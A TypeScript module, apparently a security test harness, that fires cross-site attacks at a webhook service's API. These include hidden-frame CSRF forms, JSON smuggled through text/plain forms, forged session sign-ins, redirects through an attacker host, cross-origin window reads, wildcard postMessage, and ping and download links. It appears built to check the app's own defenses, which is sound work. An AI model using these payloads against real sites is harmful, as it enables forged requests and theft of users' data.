/** Forms and windows: what a page can send without a script's rights, and what it can see of a window that it opened. */
import { type Attack, type Finding, type Knowledge, make, messageOf, nothing, pause, read } from './attack.ts';

interface FormParts {
  readonly method?: string;
  readonly enctype?: string;
  readonly action: (knowledge: Knowledge) => string;
  readonly fields?: Readonly<Record<string, string>>;
}

/** Sends a form into a hidden frame. */
function formAttack(name: string, { method = 'post', enctype = '', action, fields = {} }: FormParts): Attack {
  return {
    name,
    async run(knowledge) {
      const target = `frame-${Math.random().toString(36).slice(2)}`;
      const frame = make('iframe', { name: target });
      const path = action(knowledge);
      const url = path.startsWith('http') ? path : `${knowledge.base}${path}`;
      const form = make('form', { method, action: url, target, enctype });
      for (const [key, value] of Object.entries(fields)) form.append(make('input', { name: key, value }));
      document.body.append(frame, form);
      form.submit();
      await pause(600);
      const finding = lookIntoFrame(knowledge, frame);
      frame.remove();
      form.remove();
      return finding;
    },
  };
}

function lookIntoFrame(knowledge: Knowledge, frame: HTMLIFrameElement): Finding {
  try {
    const inner = frame.contentDocument;
    const text = inner?.documentElement.textContent ?? '';
    if (inner === null || !inner.URL.startsWith(knowledge.base)) return nothing('sent');
    return knowledge.isRebound && text.includes('link.forbidden') ? nothing('refused') : read(text);
  } catch (error) {
    return nothing(`sent; ${messageOf(error)}`);
  }
}

const testEventsOf = (endpointId: string) => `/api/endpoints/${endpointId}/test-events`;
const testEvents = ({ endpointId }: Knowledge) => testEventsOf(endpointId);

export const forms: readonly Attack[] = [
  formAttack('form', { action: testEvents, fields: { eventType: 'run.failed' } }),
  formAttack('form, multipart', { action: testEvents, enctype: 'multipart/form-data', fields: { eventType: 'run.failed' } }),
  formAttack('form whose text is JSON', {
    action: () => '/api/endpoints',
    enctype: 'text/plain',
    fields: { '{"slug":"form-text","name":"': '"}' },
  }),
  formAttack('form without fields', { action: testEvents }),
  formAttack('form that asks', { method: 'get', action: () => '/api/deliveries' }),
  formAttack('form that signs in', { action: () => '/session', enctype: 'text/plain', fields: { '{"code":"x","y":"': '"}' } }),
  formAttack('form that sends a stolen code', {
    action: () => '/session',
    fields: { code: 'x' },
  }),
  formAttack('form that is redirected with 307', {
    action: (known) => `${known.attacker}/redirect?status=307&to=${encodeURIComponent(`${known.base}${testEvents(known)}`)}`,
    fields: { eventType: 'run.failed' },
  }),
  formAttack('form that is redirected with 308', {
    action: (known) => `${known.attacker}/redirect?status=308&to=${encodeURIComponent(`${known.base}/api/session-codes`)}`,
  }),
];

/** Opens a window, does something with it, and says what can be seen of it. */
function windowAttack(name: string, url: (knowledge: Knowledge) => string, act?: (opened: Window, knowledge: Knowledge) => void): Attack {
  return {
    name,
    async run(knowledge) {
      const opened = window.open(url(knowledge), '_blank', 'width=300,height=200');
      if (opened === null) return nothing('no window');
      await pause(500);
      try {
        act?.(opened, knowledge);
        if (act) await pause(400);
        return lookAtWindow(opened, knowledge);
      } finally {
        opened.close();
      }
    },
  };
}

function lookAtWindow(opened: Window, knowledge: Knowledge): Finding {
  try {
    if (opened.length > 0) return read(`${opened.length} frames inside`);
    const { URL: at, documentElement } = opened.document;
    const text = documentElement.outerHTML;
    if (!at.startsWith(knowledge.base)) return nothing(`at ${at}`);
    return knowledge.isRebound && text.includes('link.forbidden') ? nothing('refused') : read(`${at} ${text}`);
  } catch (error) {
    return nothing(messageOf(error));
  }
}

/** Clicks on a link that leads into a hidden frame. */
function linkAttack(name: string, fields: (knowledge: Knowledge) => Partial<HTMLAnchorElement>): Attack {
  return {
    name,
    async run(knowledge) {
      const target = `frame-${Math.random().toString(36).slice(2)}`;
      const frame = make('iframe', { name: target });
      const anchor = make('a', { target, ...fields(knowledge) });
      document.body.append(frame, anchor);
      anchor.click();
      await pause(300);
      anchor.remove();
      frame.remove();
      return nothing('clicked');
    },
  };
}

export const windows: readonly Attack[] = [
  windowAttack('window of the start page', ({ base }) => `${base}/`),
  windowAttack('window of the API', ({ base }) => `${base}/api/deliveries`),
  windowAttack(
    'window that is sent messages',
    ({ base }) => `${base}/`,
    (opened) => {
      for (const message of ['hello', { kind: 'call', path: '/deliveries/list' }, { i: '1', p: { u: '/settings/get', b: {} } }]) {
        opened.postMessage(message, '*');
      }
    },
  ),
  windowAttack(
    'window that is led to us later',
    () => 'about:blank',
    (opened, { base }) => {
      opened.location.href = `${base}/`;
    },
  ),
  windowAttack('window that is redirected', ({ attacker, base }) => `${attacker}/redirect?status=302&to=${encodeURIComponent(`${base}/`)}`),
  windowAttack('window with a script URL for us', ({ base }) => `javascript:location='${base}/'`),
  linkAttack('link with a ping', ({ base, attacker, endpointId }) => ({
    href: `${attacker}/blank`,
    ping: `${base}${testEventsOf(endpointId)}`,
  })),
  linkAttack('link that saves a body', ({ base, deliveryId }) => ({ href: `${base}/blobs/deliveries/${deliveryId}`, download: 'stolen' })),
];
